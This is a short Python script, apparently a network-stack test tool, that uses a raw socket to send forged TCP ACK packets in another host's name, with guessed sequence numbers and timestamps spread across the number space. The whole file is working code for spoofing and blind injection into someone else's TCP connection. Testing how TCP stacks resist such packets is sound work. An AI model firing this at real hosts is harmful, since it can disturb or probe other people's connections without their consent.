#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Sends bare acknowledgments in somebody's name, with guessed numbers: a sequence number in each quarter of all there are, with
a time stamp in each half of those, twice each, or more often.

Usage: stranger.py INTERFACE FROM PORT TO PORT [TIMES] (IPv4)
"""
import socket
import struct
import sys

ACK = 0x10


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def packet(source, source_port, target, target_port, seq, stamp):
    options = struct.pack("!BBBBII", 1, 1, 8, 10, stamp, 0)
    length = 20 + len(options)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", source_port, target_port, seq, 12345, length // 4 << 4, ACK, 100, 0, 0) + options
    tcp = tcp[:16] + struct.pack("!H", checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, length) + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + addresses + tcp


def main():
    interface, source, source_port, target, target_port = sys.argv[1:6]
    times = int(sys.argv[6]) if len(sys.argv) > 6 else 2
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    for _ in range(times):
        for quarter in range(4):
            for half in range(2):
                out.sendto(packet(source, int(source_port), target, int(target_port), (quarter << 30) + 777,
                                  (half << 31) + 12345), (target, 0))


main()
